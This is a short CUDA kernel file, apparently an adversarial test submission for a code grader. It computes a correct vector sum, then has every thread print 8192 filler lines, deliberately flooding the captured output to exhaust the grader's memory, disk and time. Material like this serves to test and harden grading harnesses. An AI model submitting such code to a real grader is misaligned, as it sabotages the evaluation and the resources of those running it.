// Attack: flood the captured output. Every launched thread prints 8192 lines of 100 bytes,
// whatever n is: at least 256 * 8192 * 100 B = 200 MB for a single block of 256 threads.
// The answer itself is right, so the only harm is to the grader's memory, disk and time.

extern "C" __global__ void vector_add(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
    for (int k = 0; k < 8192; ++k) {
        printf("flood %08d %08d xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", i, k);
    }
}
